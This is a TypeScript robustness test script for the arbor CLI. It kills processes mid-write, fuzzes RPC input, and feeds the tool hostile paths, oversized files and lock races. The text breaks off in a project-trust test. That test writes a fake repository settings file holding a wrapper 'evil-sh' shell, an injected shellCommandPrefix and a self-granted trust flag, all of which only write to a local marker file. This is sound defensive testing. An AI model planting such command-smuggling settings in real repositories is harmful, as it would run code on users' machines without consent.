/**
 * `npm run torture`: attacks on the built `arbor`, as real processes, in bounded loops, with a
 * table of attack × trials × bad outcomes at the end (exit 1 if any bad outcome was seen).
 *
 * - SIGKILL at random moments during print-mode turns and during RPC prompts, on a model that
 *   calls the `bash` tool in every turn and reports enough input for a compaction after each
 *   (bench/ToolModel.ts): acknowledged replies lost, acknowledged turns without their tool
 *   result, damaged lines after the next append, stale locks that block;
 * - RPC input fuzz: random bytes, invalid UTF-8, a 10 MB line, JSON nested 100,000 deep,
 *   unknown types, wrong-typed fields, 10,000 commands written at once: every line with an id
 *   answered exactly once, the server still serving, its peak memory;
 * - hostile paths and files: a symlink, a directory, a FIFO, an unreadable file, garbage, empty
 *   and foreign-host locks, paths with `..`, spaces, newlines and non-UTF-8 bytes, on the
 *   command line and through RPC's switch_session and export_html: each ends in time with
 *   success or one line of error, and nothing is written outside the test directory;
 *   a 300 MiB synthetic session (bench/Synthetic.ts, in a temporary directory removed after):
 *   `info`, `context --json` and `fsck` each succeed within 120 s with a peak RSS (the child's
 *   getrusage) under 200 MB + 3× the file, and the table notes each one's time and peak RSS.
 *
 * - pi's SessionManager (pi 1.6.0, installed on demand into `.bench/pi`) appending while an
 *   Arbor RPC writer prompts, 500 rounds: entries lost, duplicated, fused; Arbor's entries
 *   after its first written under one of pi's (each writer keeps its own leaf) and replies not
 *   under their prompt; `arbor context --json` against pi's context.
 *
 * - PostgreSQL (a throwaway cluster, scripts/postgres.mjs): prompts and names holding NUL,
 *   unpaired surrogates, U+FFFF and look-alikes of the store's escapes, over RPC, 60 rounds; then
 *   `ls`, `context --json` and 48 searches against the same session exported into a file store.
 *
 * - a cloned repository whose `.pi/settings.json` sets `shellPath` and `shellCommandPrefix` (and
 *   `defaultProjectTrust: "always"` for itself), in six untrusted set-ups (no decision, a trusted
 *   sibling with the same prefix, a symlink inside a trusted folder, its own "no" under a
 *   trusted parent, --no-approve, defaultProjectTrust never) and two trusted controls, through
 *   a print-mode bash tool call and RPC bash plus a tool call: the hostile commands that ran.
 *
 * - escape sequences (OSC 52, OSC 0, OSC 8, CSI, DCS, C1, bidi overrides) in every field a
 *   terminal shows, through info, tree, ls, context, export, fsck, -p and the chat on a
 *   pseudo-terminal: raw sequences and payloads that reached it.
 *
 * - limits: a 600 MiB entry line (over V8's string limit) between two readable entries, and a
 *   sparse file of --limits-gb GiB of NULs behind a valid header (in a temporary directory
 *   removed after): info, fsck, tree, export, context --json, ls, -p and RPC switch_session
 *   each report the line as `line-too-long` (fsck names file, line and size) and open the rest,
 *   within a peak RSS (the child's getrusage) of 256 MB; the table notes each one's time and peak.
 *
 * - lock-race: rounds of six RPC writers started at once on a session whose lock names a process
 *   that is gone: rounds where two held it, or nobody did;
 * - orphans: rounds of 20 parallel `arbor ls` over changing sessions, one killed at random each
 *   round, then one more: temporary files and unreferenced catalog text files left.
 *
 * - the caches against same-length edits (`cache-edit`): a 2 MB session (read through an index)
 *   and small ones (the catalog, the recorded facts) get random same-length bytes anywhere,
 *   ordinary appends and torn ones, each with the modification time set back (as bit rot keeps
 *   it), `--cache-edits` steps; after each, `context --json`, `tree --json`, `info --json`,
 *   `fsck --json` and `ls --json` through the cache against `ARBOR_CACHE=off`: answers that
 *   differ, and crashes (a stack or a JSON parser's message instead of an answer).
 *
 * Flags: --kills N (default 50, per mode), --rounds N (500), --commands N (10000), --big-mb N
 * (300), --pg-rounds N (60), --limits-gb N (2), --lock-rounds N (20), --orphan-rounds N (10),
 * --cache-edits N (30), --seed N, --only NAME[,NAME] (kill-print, kill-rpc, pi, fuzz, hostile,
 * trust, escapes, pg-text, limits, lock-race, orphans, cache-edit).
 */
import { execFileSync, spawn, spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import * as Pi from "./Pi.js"
import * as Synthetic from "./Synthetic.js"
import * as ToolModel from "./ToolModel.js"

const root = path.resolve(import.meta.dirname, "..")
const bin = path.join(root, "packages/cli/bin/arbor.js")
const flag = (name: string, fallback: number) => {
  const i = process.argv.indexOf(`--${name}`)
  return i >= 0 ? Number(process.argv[i + 1]) : fallback
}
const KILLS = flag("kills", 50)
const COMMANDS = flag("commands", 10_000)
/** The big session of the hostile attack, in MiB, and each command's time limit on it. */
const BIG_MB = flag("big-mb", 300)
const BIG_LIMIT_MS = 120_000
/** The file of NULs behind a header in the limits attack, in GiB. */
const LIMITS_GB = flag("limits-gb", 2)
const onlyAt = process.argv.indexOf("--only")
/** `--only NAME[,NAME]` runs some attacks: kill-print, kill-rpc, pi, fuzz, hostile, trust, escapes, pg-text, limits, lock-race, orphans, cache-edit. */
const selected = (name: string) => onlyAt < 0 || (process.argv[onlyAt + 1] ?? "").split(",").includes(name)
let seed = flag("seed", 1)
const random = () => {
  seed = (Math.imul(seed, 1103515245) + 12345) >>> 0
  return seed / 2 ** 32
}

execFileSync(process.execPath, [path.join(root, "scripts/build.mjs")], { cwd: root, stdio: "inherit" })
const work = fs.mkdtempSync(path.join(os.tmpdir(), "arbor-torture-"))
process.on("exit", () => fs.rmSync(work, { recursive: true, force: true }))
const agentDir = path.join(work, "agent")
const env = { ...process.env, PI_CODING_AGENT_DIR: agentDir, ARBOR_MODEL: "", ARBOR_DEBUG: "", ARBOR_CACHE_DIR: path.join(work, "cache") }

interface Row {
  readonly attack: string
  trials: number
  readonly bad: Record<string, number>
  note?: string
}
const rows: Array<Row> = []
const row = (attack: string, outcomes: ReadonlyArray<string>): Row => {
  const r: Row = { attack, trials: 0, bad: Object.fromEntries(outcomes.map((o) => [o, 0])) }
  rows.push(r)
  return r
}

interface Run {
  readonly code: number | null
  readonly signal: NodeJS.Signals | null
  readonly stdout: string
  readonly stderr: string
  readonly timedOut: boolean
}

/** Runs arbor with `args`; SIGKILLs it after `killAfterMs` (a kill) or after `hangMs`, default 20 s (a hang). */
const run = (
  args: ReadonlyArray<string>,
  options: {
    readonly killAfterMs?: number
    readonly hangMs?: number
    readonly cwd?: string
    readonly input?: string
    /** Node options before the program, e.g. a `--require`. */
    readonly node?: ReadonlyArray<string>
    readonly env?: Record<string, string>
  } = {}
) =>
  new Promise<Run>((resolve) => {
    const child = spawn(process.execPath, [...(options.node ?? []), bin, ...args], {
      cwd: options.cwd ?? work,
      env: { ...env, ...options.env },
      stdio: ["pipe", "pipe", "pipe"]
    })
    let stdout = ""
    let stderr = ""
    let timedOut = false
    child.stdout.on("data", (c) => (stdout += c))
    child.stderr.on("data", (c) => (stderr += c))
    child.stdin.on("error", () => {})
    if (options.input !== undefined) child.stdin.end(options.input)
    else child.stdin.end()
    const kill = setTimeout(() => {
      timedOut = options.killAfterMs === undefined
      child.kill("SIGKILL")
    }, options.killAfterMs ?? options.hangMs ?? 20_000)
    child.on("exit", (code, signal) => {
      clearTimeout(kill)
      resolve({ code, signal, stdout, stderr, timedOut })
    })
  })

interface Loaded {
  readonly entries: ReadonlyArray<any>
  readonly errors: number
}
/** What `arbor fsck --json` says of a file, and its entries as parsed lines. */
const inspect = async (file: string): Promise<Loaded> => {
  const fsck = await run(["fsck", file, "--json"])
  const report = JSON.parse(fsck.stdout)
  const entries = fs
    .readFileSync(file, "utf8")
    .split("\n")
    .flatMap((line) => {
      try {
        return [JSON.parse(line)]
      } catch {
        return []
      }
    })
  return { entries, errors: report.errors }
}
const textOf = (message: any): string =>
  typeof message?.content === "string" ? message.content : (message?.content ?? []).map((b: any) => b.text ?? "").join("")
const has = (entries: ReadonlyArray<any>, role: string, includes: string) =>
  entries.some((e) => e.type === "message" && e.message?.role === role && textOf(e.message).includes(includes))

// ---------------------------------------------------------------------------------------------
// SIGKILL during print-mode turns
// ---------------------------------------------------------------------------------------------

// the kills run on a model that calls a tool in every turn, with a compaction after each: the
// reported input is over claude-sonnet-4-5's threshold, and little is kept
const toolModel = selected("kill-print") || selected("kill-rpc") ? await ToolModel.start(190_000) : undefined
const killAgentDir = path.join(work, "agent-tools")
fs.mkdirSync(killAgentDir, { recursive: true })
fs.writeFileSync(path.join(killAgentDir, "settings.json"), JSON.stringify({ compaction: { keepRecentTokens: 50 } }))
const killEnv = {
  PI_CODING_AGENT_DIR: killAgentDir,
  ARBOR_MODEL: "anthropic/claude-sonnet-4-5",
  ANTHROPIC_API_KEY: "torture",
  ANTHROPIC_BASE_URL: toolModel?.url ?? ""
}
const toolResults = (entries: ReadonlyArray<any>) => entries.filter((e) => e.type === "message" && e.message?.role === "toolResult").length
const compactions = (entries: ReadonlyArray<any>) => entries.filter((e) => e.type === "compaction").length
/** Whether the turn that answered `text` has its tool result before the reply. */
const turnHasTool = (entries: ReadonlyArray<any>, text: string) => {
  const reply = entries.findIndex((e) => e.type === "message" && e.message?.role === "assistant" && textOf(e.message).includes(`done: ${text}`))
  const byId = new Map(entries.map((e) => [e.id, e]))
  for (let at = entries[reply]?.parentId; at !== undefined && at !== null; at = byId.get(at)?.parentId) {
    const e = byId.get(at)
    if (e?.type === "message" && e.message?.role === "toolResult") return true
    if (e?.type === "message" && e.message?.role === "user") return false
  }
  return false
}
const KILL_OUTCOMES = ["lost acknowledged replies", "acknowledged turns without their tool result", "damaged lines after next append", "stale locks that block"]

if (selected("kill-print")) {
  const r = row("SIGKILL during print-mode turns", KILL_OUTCOMES)
  const file = path.join(work, "print.jsonl")
  const acked: Array<string> = []
  // kills fall anywhere from start-up to a little after a whole turn takes on this machine; the
  // timed turn is a session's second, which compacts the first
  const timingFile = path.join(work, "print-timing.jsonl")
  await run(["--session", timingFile, "-p", "timing"], { env: killEnv })
  const started = Date.now()
  await run(["--session", timingFile, "-p", "timing again"], { env: killEnv })
  const turnMs = Date.now() - started
  for (let i = 0; i < KILLS; i++) {
    const text = `print turn ${i}`
    const result = await run(["--session", file, "-p", text], { killAfterMs: Math.floor(random() * turnMs * 1.5), env: killEnv })
    r.trials++
    if (result.code === 0) acked.push(text)
    else if (result.stderr.includes("is being written by")) r.bad["stale locks that block"]!++
  }
  const after = await run(["name", file, "after the kills"])
  if (after.stderr.includes("is being written by")) r.bad["stale locks that block"]!++
  const loaded = await inspect(file)
  for (const text of acked) {
    if (!has(loaded.entries, "user", text) || !has(loaded.entries, "assistant", `done: ${text}`)) r.bad["lost acknowledged replies"]!++
    else if (!turnHasTool(loaded.entries, text)) r.bad["acknowledged turns without their tool result"]!++
  }
  r.bad["damaged lines after next append"]! += loaded.errors
  r.note = `${acked.length} turns acknowledged, ${toolResults(loaded.entries)} tool results, ${
    compactions(loaded.entries)
  } compactions; a turn takes ${turnMs} ms`
}

// ---------------------------------------------------------------------------------------------
// SIGKILL during RPC prompts
// ---------------------------------------------------------------------------------------------

/** An RPC server on `args`; resolves when it exits (or is killed after `killAfterMs`). */
const rpc = (args: ReadonlyArray<string>, extraEnv: Record<string, string> = {}) => {
  const child = spawn(process.execPath, [bin, "--mode", "rpc", ...args], { cwd: work, env: { ...env, ...extraEnv }, stdio: ["pipe", "pipe", "pipe"] })
  const lines: Array<any> = []
  let buffer = ""
  let unparsable = 0
  child.stdout.setEncoding("utf8")
  child.stdout.on("data", (chunk: string) => {
    buffer += chunk
    const parts = buffer.split("\n")
    buffer = parts.pop() ?? ""
    for (const part of parts) {
      try {
        lines.push(JSON.parse(part))
      } catch {
        unparsable++
      }
    }
  })
  child.stdin.on("error", () => {})
  const exited = new Promise<void>((resolve) => child.on("exit", () => resolve()))
  return { child, lines, exited, unparsable: () => unparsable }
}

if (selected("kill-rpc")) {
  const r = row("SIGKILL during RPC prompts", KILL_OUTCOMES)
  const file = path.join(work, "rpc.jsonl")
  const acked: Array<string> = []
  const prompts = (server: ReturnType<typeof rpc>, i: number) => {
    const texts = [0, 1, 2].map((k) => `rpc prompt ${i}.${k}`)
    for (const [k, text] of texts.entries()) server.child.stdin.write(JSON.stringify({ id: `p${k}`, type: "prompt", message: text }) + "\n")
    return texts
  }
  // how long three prompts take here, to kill anywhere within (and a little beyond) that
  const started = Date.now()
  const timing = rpc(["--session", path.join(work, "rpc-timing.jsonl")], killEnv)
  prompts(timing, -1)
  while (timing.lines.filter((l) => l.type === "agent_end").length < 3 && Date.now() - started < 60_000) await new Promise((res) => setTimeout(res, 20))
  const spanMs = Date.now() - started
  timing.child.kill("SIGKILL")
  await timing.exited
  for (let i = 0; i < KILLS; i++) {
    const server = rpc(["--session", file], killEnv)
    const texts = prompts(server, i)
    const killed = setTimeout(() => server.child.kill("SIGKILL"), Math.floor(random() * spanMs * 1.3))
    await server.exited
    clearTimeout(killed)
    r.trials++
    // a reply is acknowledged once its message_end was sent
    for (const line of server.lines) {
      if (line.type === "message_end" && line.message?.role === "assistant") {
        const said = texts.find((t) => textOf(line.message).includes(`done: ${t}`))
        if (said !== undefined) acked.push(said)
      }
      if (line.type === "response" && line.success === false && String(line.error).includes("is being written by")) r.bad["stale locks that block"]!++
    }
  }
  const after = await run(["name", file, "after the kills"])
  if (after.stderr.includes("is being written by")) r.bad["stale locks that block"]!++
  if (fs.existsSync(file)) {
    const loaded = await inspect(file)
    for (const text of acked) {
      if (!has(loaded.entries, "assistant", `done: ${text}`)) r.bad["lost acknowledged replies"]!++
      else if (!turnHasTool(loaded.entries, text)) r.bad["acknowledged turns without their tool result"]!++
    }
    r.bad["damaged lines after next append"]! += loaded.errors
    r.note = `${acked.length} replies acknowledged, ${toolResults(loaded.entries)} tool results, ${
      compactions(loaded.entries)
    } compactions; three prompts take ${spanMs} ms`
  }
}

// ---------------------------------------------------------------------------------------------
// pi's SessionManager appending while an Arbor RPC writer appends
// ---------------------------------------------------------------------------------------------

const piModule = Pi.sessionManager
if (selected("pi")) {
  await Pi.ensure({ onInstall: (message) => console.error(message) })
  const r = row("pi appending beside an Arbor RPC writer", [
    "entries lost",
    "entries duplicated",
    "lines fused or damaged",
    "Arbor's later entries under pi's",
    "replies not under their prompt",
    "context differs from pi's"
  ])
  const ROUNDS = flag("rounds", 500)
  const file = path.join(work, "shared.jsonl")
  const now = "2026-12-03T00:00:00.000Z"
  fs.writeFileSync(
    file,
    [
      `{"type":"session","version":3,"id":"shared","timestamp":"${now}","cwd":"${work}"}`,
      `{"type":"message","id":"u0000000","parentId":null,"timestamp":"${now}","message":{"role":"user","content":"start","timestamp":1}}`,
      `{"type":"message","id":"a0000000","parentId":"u0000000","timestamp":"${now}","message":{"role":"assistant","content":[{"type":"text","text":"ok"}],"api":"x","provider":"p","model":"m","usage":{"input":0,"output":0,"cacheRead":0,"cacheWrite":0,"totalTokens":0,"cost":{"input":0,"output":0,"cacheRead":0,"cacheWrite":0,"total":0}},"stopReason":"stop","timestamp":2}}`
    ].join("\n") + "\n"
  )
  // pi, through its public SessionManager API only: open, appendMessage; then a fresh open's context
  const piScript = path.join(work, "pi-appender.mjs")
  fs.writeFileSync(
    piScript,
    `import { pathToFileURL } from "node:url"
const { SessionManager } = await import(pathToFileURL(process.argv[2]).href)
const [file, rounds, mode] = process.argv.slice(3)
if (mode === "context") {
  process.stdout.write(JSON.stringify(SessionManager.open(file).buildSessionContext()))
} else {
  const manager = SessionManager.open(file)
  const ids = []
  for (let i = 0; i < Number(rounds); i++) {
    ids.push(manager.appendMessage({ role: "user", content: "pi " + i, timestamp: Date.now() }))
    const until = Date.now() + 2 + (i % 5)
    while (Date.now() < until) {}
  }
  process.stdout.write(JSON.stringify(ids))
}
`
  )
  const pi = spawn(process.execPath, [piScript, piModule, file, String(ROUNDS), "append"], { cwd: work, env, stdio: ["ignore", "pipe", "pipe"] })
  let piOut = ""
  let piErr = ""
  pi.stdout.on("data", (c) => (piOut += c))
  pi.stderr.on("data", (c) => (piErr += c))
  const piDone = new Promise<void>((resolve) => pi.on("exit", () => resolve()))
  const server = rpc(["--session", file])
  const texts = Array.from({ length: ROUNDS }, (_, i) => `arbor ${i}`)
  for (const [i, text] of texts.entries()) server.child.stdin.write(JSON.stringify({ id: `q${i}`, type: "prompt", message: text }) + "\n")
  const deadline = Date.now() + 300_000
  while (server.lines.filter((l) => l.type === "agent_end").length < ROUNDS && Date.now() < deadline) await new Promise((res) => setTimeout(res, 50))
  server.child.stdin.end()
  await Promise.race([server.exited, new Promise((res) => setTimeout(res, 10_000))])
  server.child.kill("SIGKILL")
  await piDone
  r.trials = ROUNDS
  const piIds: ReadonlyArray<string> = piOut === "" ? [] : JSON.parse(piOut)
  if (piIds.length !== ROUNDS) console.error(`  pi appended ${piIds.length} of ${ROUNDS}: ${piErr.slice(0, 300)}`)
  const loaded = await inspect(file)
  const ids = loaded.entries.slice(1).map((e) => e.id as string)
  const count = new Map<string, number>()
  for (const id of ids) count.set(id, (count.get(id) ?? 0) + 1)
  r.bad["entries lost"] = piIds.filter((id) => !count.has(id)).length + (ROUNDS - piIds.length)
  for (const text of texts) if (!has(loaded.entries, "user", text) || !has(loaded.entries, "assistant", text)) r.bad["entries lost"]!++
  r.bad["entries duplicated"] = [...count.values()].filter((n) => n > 1).length
  r.bad["lines fused or damaged"] = loaded.errors
  const piSet = new Set(piIds)
  // the entries Arbor wrote: neither pi's nor the two the file started with
  const arborEntries = loaded.entries.slice(3).filter((e) => !piSet.has(e.id))
  // Arbor's first entry follows the file's last line when it opened the file, maybe pi's; each later one follows Arbor's own
  r.bad["Arbor's later entries under pi's"] = arborEntries.slice(1).filter((e) => piSet.has(e.parentId)).length
  const promptIds = new Map(arborEntries.filter((e) => e.message?.role === "user").map((e) => [textOf(e.message), e.id]))
  r.bad["replies not under their prompt"] = texts.filter((text) => {
    const reply = arborEntries.find((e) => e.message?.role === "assistant" && textOf(e.message).endsWith(`You said: ${text}`))
    return reply === undefined || reply.parentId !== promptIds.get(text)
  }).length
  const ours = await run(["context", file, "--json"])
  const theirs = spawnSync(process.execPath, [piScript, piModule, file, "0", "context"], { env, encoding: "utf8", maxBuffer: 1 << 28 })
  if (ours.code !== 0 || JSON.stringify(JSON.parse(ours.stdout)) !== JSON.stringify(JSON.parse(theirs.stdout))) r.bad["context differs from pi's"] = 1
  r.note = `${loaded.entries.length - 1} entries, ${ids.filter((id) => id !== undefined).length - new Set(piIds).size} of them Arbor's`
}

// ---------------------------------------------------------------------------------------------
// RPC input fuzz
// ---------------------------------------------------------------------------------------------

if (selected("fuzz")) {
  const r = row("RPC input fuzz", ["ids not answered exactly once", "server stopped serving", "unparsable output lines"])
  const server = rpc(["--no-session"])
  const ids: Array<string> = []
  const write = (data: string | Buffer) => server.child.stdin.write(data)
  const withId = (id: string, body: object) => {
    ids.push(id)
    write(JSON.stringify({ id, ...body }) + "\n")
  }
  for (let i = 0; i < 50; i++) {
    const bytes = Buffer.alloc(1 + Math.floor(random() * 200))
    for (let k = 0; k < bytes.length; k++) bytes[k] = Math.floor(random() * 256)
    write(Buffer.concat([bytes.filter((b) => b !== 0x0a), Buffer.from("\n")]))
  }
  write(Buffer.concat([Buffer.from(`{"id":"utf8","type":"get_state","x":"`), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from(`"}\n`)]))
  ids.push("utf8")
  withId("big", { type: "get_state", pad: "x".repeat(10 * 1024 * 1024) })
  write(`{"id":"deep","type":"get_state","x":${"[".repeat(100_000)}${"]".repeat(100_000)}}\n`)
  ids.push("deep")
  withId("unknown", { type: "no_such_command" })
  withId("wrong1", { type: "prompt", message: 5 })
  withId("wrong2", { type: "set_session_name", name: { no: 1 } })
  withId("wrong3", { type: "navigate_tree", targetId: [] })
  for (let i = 0; i < COMMANDS; i++) withId(`c${i}`, { type: "get_state" })
  withId("last", { type: "get_state" })
  r.trials = ids.length + 51
  const deadline = Date.now() + 120_000
  while (Date.now() < deadline && !server.lines.some((l) => l.type === "response" && l.id === "last")) await new Promise((res) => setTimeout(res, 50))
  const peak = (() => {
    try {
      const status = fs.readFileSync(`/proc/${server.child.pid}/status`, "utf8")
      return status.match(/VmHWM:\s+(\d+) kB/)?.[1]
    } catch {
      return undefined
    }
  })()
  const answered = new Map<string, number>()
  for (const line of server.lines) if (line.type === "response" && typeof line.id === "string") answered.set(line.id, (answered.get(line.id) ?? 0) + 1)
  r.bad["ids not answered exactly once"] = ids.filter((id) => answered.get(id) !== 1).length
  if (answered.get("last") !== 1) r.bad["server stopped serving"] = 1
  r.bad["unparsable output lines"] = server.unparsable()
  server.child.stdin.end()
  const killer = setTimeout(() => server.child.kill("SIGKILL"), 10_000)
  await server.exited
  clearTimeout(killer)
  r.note = `peak RSS ${peak === undefined ? "?" : `${Math.round(Number(peak) / 1024)} MB`}`
}

// ---------------------------------------------------------------------------------------------
// Hostile paths and files
// ---------------------------------------------------------------------------------------------

if (selected("hostile")) {
  const r = row("hostile paths and files", [
    "hangs",
    "not one line of error",
    "wrote outside its directory",
    "300 MB session failed",
    "300 MB session over its memory bound"
  ])
  const dir = path.join(work, "hostile")
  fs.mkdirSync(dir)
  const header = `{"type":"session","version":3,"id":"h","timestamp":"2026-01-01T00:00:00.000Z","cwd":"${dir}"}`
  const good = path.join(dir, "good.jsonl")
  fs.writeFileSync(
    good,
    `${header}\n{"type":"message","id":"a","parentId":null,"timestamp":"2026-01-01T00:00:01.000Z","message":{"role":"user","content":"hi","timestamp":1}}\n`
  )
  fs.symlinkSync(good, path.join(dir, "link.jsonl"))
  fs.mkdirSync(path.join(dir, "dir.jsonl"))
  spawnSync("mkfifo", [path.join(dir, "fifo.jsonl")])
  fs.writeFileSync(path.join(dir, "unreadable.jsonl"), `${header}\n`, { mode: 0o000 })
  const locked = (name: string, lock: string) => {
    const file = path.join(dir, name)
    fs.writeFileSync(file, `${header}\n`)
    fs.writeFileSync(`${file}.lock`, lock)
    return file
  }
  const before = new Set(fs.readdirSync(work))
  const cases: Array<ReadonlyArray<string>> = [
    ["context", path.join(dir, "link.jsonl")],
    ["name", path.join(dir, "link.jsonl"), "via a link"],
    ["context", path.join(dir, "dir.jsonl")],
    ["context", path.join(dir, "fifo.jsonl")],
    ["name", path.join(dir, "fifo.jsonl"), "x"],
    ["--session", path.join(dir, "fifo.jsonl"), "-p", "hello"],
    ["context", path.join(dir, "unreadable.jsonl")],
    ["name", locked("garbage.jsonl", "\u0000\u00ffnot json"), "x"],
    ["name", locked("empty.jsonl", ""), "x"],
    ["name", locked("foreign.jsonl", JSON.stringify({ pid: 1, host: "elsewhere", startedAt: "2026-01-01T00:00:00.000Z" })), "x"],
    ["context", `${dir}/../hostile/./good.jsonl`],
    ["--session-dir", `${dir}/sub/../with space`, "-p", "hello"],
    ["--session-dir", `${dir}/new\nline`, "-p", "hello"],
    ["--session", `${dir}/new\nline.jsonl`, "-p", "hello"]
  ]
  for (const args of cases) {
    const result = await run(args, { cwd: dir })
    r.trials++
    if (result.timedOut) r.bad["hangs"]!++
    else if (result.code !== 0 && !/^arbor: [^\n]+\n$/.test(result.stderr)) {
      r.bad["not one line of error"]!++
      console.error(`  ${JSON.stringify(args)}: exit ${result.code}, stderr ${JSON.stringify(result.stderr.slice(0, 300))}`)
    }
  }
  // a path that is not UTF-8, through a shell (process arguments here are strings)
  for (const command of ["context", "fsck"]) {
    const result = spawnSync("/bin/sh", ["-c", `exec "$0" "$1" ${command} "$(printf '%s/\\377\\376bad.jsonl' "$2")"`, process.execPath, bin, dir], {
      env,
      timeout: 20_000,
      encoding: "utf8"
    })
    r.trials++
    if (result.error !== undefined) r.bad["hangs"]!++
    else if (result.status !== 0 && !/^arbor: [^\n]+\n$/.test(result.stderr)) r.bad["not one line of error"]!++
  }
  // the same paths through RPC: switch_session and export_html each answer once, in one line
  {
    const server = rpc(["--session", path.join(dir, "rpc-paths.jsonl")])
    const asked: Array<string> = []
    const ask = (id: string, line: string | Buffer) => {
      asked.push(id)
      server.child.stdin.write(line)
    }
    const command = (id: string, body: object) => ask(id, JSON.stringify({ id, ...body }) + "\n")
    command("dotdot", { type: "switch_session", sessionPath: `${dir}/../hostile/./good.jsonl` })
    command("space", { type: "switch_session", sessionPath: `${dir}/sub/../with space/s.jsonl` })
    command("newline", { type: "switch_session", sessionPath: `${dir}/new\nline.jsonl` })
    command("fifo", { type: "switch_session", sessionPath: path.join(dir, "fifo.jsonl") })
    command("directory", { type: "switch_session", sessionPath: path.join(dir, "dir.jsonl") })
    command("unreadable", { type: "switch_session", sessionPath: path.join(dir, "unreadable.jsonl") })
    ask(
      "bytes",
      Buffer.concat([Buffer.from(`{"id":"bytes","type":"switch_session","sessionPath":"${dir}/`), Buffer.from([0xff, 0xfe]), Buffer.from(`bad.jsonl"}\n`)])
    )
    command("export", { type: "export_html", outputPath: `${dir}/sub/../export with space.html` })
    command("still", { type: "get_state" })
    const deadline = Date.now() + 30_000
    const answered = () => server.lines.filter((l) => l.type === "response" && asked.includes(l.id))
    while (Date.now() < deadline && answered().length < asked.length) await new Promise((res) => setTimeout(res, 20))
    server.child.stdin.end()
    const killer = setTimeout(() => server.child.kill("SIGKILL"), 10_000)
    await server.exited
    clearTimeout(killer)
    for (const id of asked) {
      const responses = answered().filter((l) => l.id === id)
      r.trials++
      if (responses.length !== 1) r.bad["hangs"]!++
      else if (responses[0].success === false && !/^[^\n]+$/.test(String(responses[0].error ?? ""))) {
        r.bad["not one line of error"]!++
        console.error(`  rpc ${id}: ${JSON.stringify(responses[0].error).slice(0, 300)}`)
      }
    }
    // the export lands where its path resolves to, and nowhere else
    if (!fs.existsSync(path.join(dir, "export with space.html")) || fs.existsSync(path.join(dir, "sub"))) r.bad["wrote outside its directory"]!++
  }
  // a 300 MB session (--big-mb): read by info, context and fsck in bounded time and memory
  const bigDir = fs.mkdtempSync(path.join(os.tmpdir(), "arbor-torture-big-"))
  try {
    const sessionDir = path.join(bigDir, "session")
    fs.mkdirSync(sessionDir)
    const big = path.join(sessionDir, "big.jsonl")
    const started = Date.now()
    const { bytes, entries } = (() => {
      const syn = Synthetic.generate({ entries: Math.round(BIG_MB * 1000), targetBytes: BIG_MB * 2 ** 20, seed, activeFraction: 0.12 })
      fs.writeFileSync(big, syn.text)
      return { bytes: syn.bytes, entries: syn.entries }
    })()
    const generatedMs = Date.now() - started
    // the child's own peak RSS (getrusage), written as it exits
    const probe = path.join(bigDir, "maxrss.cjs")
    fs.writeFileSync(
      probe,
      `process.on("exit", () => require("node:fs").writeFileSync(process.env.ARBOR_TORTURE_MAXRSS, String(process.resourceUsage().maxRSS)))\n`
    )
    const boundKb = 200 * 1024 + Math.ceil((3 * bytes) / 1024)
    const figures: Array<string> = []
    for (const args of [["info", big], ["context", big, "--json"], ["fsck", big]]) {
      const rssFile = path.join(bigDir, `${args[0]}.maxrss`)
      const t0 = Date.now()
      const result = await run(args, { cwd: sessionDir, hangMs: BIG_LIMIT_MS, node: ["--require", probe], env: { ARBOR_TORTURE_MAXRSS: rssFile } })
      const seconds = (Date.now() - t0) / 1000
      const peakKb = fs.existsSync(rssFile) ? Number(fs.readFileSync(rssFile, "utf8")) : undefined
      r.trials++
      const parses = args[0] !== "context" || (() => {
        try {
          return Array.isArray(JSON.parse(result.stdout).messages)
        } catch {
          return false
        }
      })()
      if (result.timedOut) r.bad["hangs"]!++
      else if (result.code !== 0 || !parses) {
        r.bad["300 MB session failed"]!++
        console.error(`  ${args[0]} on the 300 MB session: exit ${result.code}, stderr ${JSON.stringify(result.stderr.slice(0, 300))}`)
      }
      if (peakKb === undefined || peakKb > boundKb) r.bad["300 MB session over its memory bound"]!++
      const label = args[0] === "context" ? "context --json" : args[0]
      figures.push(`${label} ${seconds.toFixed(1)} s / ${peakKb === undefined ? "?" : Math.round(peakKb / 1024)} MB`)
    }
    // reading it writes nothing beside it
    r.bad["wrote outside its directory"]! += fs.readdirSync(sessionDir).filter((name) => name !== "big.jsonl").length
    r.note = `${(bytes / 2 ** 20).toFixed(0)} MiB session (${entries.toLocaleString("en")} entries, generated in ${(generatedMs / 1000).toFixed(1)} s): ` +
      `${figures.join(", ")} (peak RSS bound ${Math.round(boundKb / 1024)} MB, time limit ${BIG_LIMIT_MS / 1000} s each)`
  } finally {
    fs.rmSync(bigDir, { recursive: true, force: true })
  }
  // ARBOR_CACHE_DIR (work/cache) is where the index of a large session belongs
  const after = fs.readdirSync(work).filter((name) => !before.has(name) && path.join(work, name) !== env.ARBOR_CACHE_DIR)
  r.bad["wrote outside its directory"]! += after.length
}

// ---------------------------------------------------------------------------------------------
// A cloned repository's settings (project trust)
// ---------------------------------------------------------------------------------------------

if (selected("trust")) {
  const r = row("a cloned repo's shell settings (project trust)", ["hostile commands that ran", "trusted runs without the repo's shell", "runs that failed"])
  const trustModel = await ToolModel.start(1000)
  const base = fs.realpathSync(fs.mkdtempSync(path.join(work, "trust-")))
  const marker = path.join(base, "marker")
  const lines = () => (fs.existsSync(marker) ? fs.readFileSync(marker, "utf8").split("\n").filter((l) => l !== "").length : 0)
  const shell = path.join(base, "evil-sh")
  fs.writeFileSync(shell, `#!/bin/sh\necho SHELL >> '${marker}'\nexec /bin/bash "$@"\n`, { mode: 0o755 })
  /** A clone at `dir` whose settings set both shell keys (and try to trust themselves). */
  const clone = (dir: string) => {
    fs.mkdirSync(path.join(dir, ".pi"), { recursive: true })
    const settings = { shellPath: shell, shellCommandPrefix: `echo RAN >> '${marker}';`, defaultProjectTrust: "always" }
    fs.writeFileSync(path.join(dir, ".pi", "settings.json"), JSON.stringify(settings))
    return dir
  }
  const agent = path.join(base, "agent")
  fs.mkdirSync(agent)
  const trustEnv = { PI_CODING_AGENT_DIR: agent, ARBOR_MODEL: "anthropic/claude-sonnet-4-5", ANTHROPIC_API_KEY: "torture", ANTHROPIC_BASE_URL: trustModel.url }
  const setTrust = (store: Record<string, boolean> | undefined) => {
    const file = path.join(agent, "trust.json")
    if (store === undefined) fs.rmSync(file, { force: true })
    else fs.writeFileSync(file, `${JSON.stringify(store, null, 2)}\n`)
  }
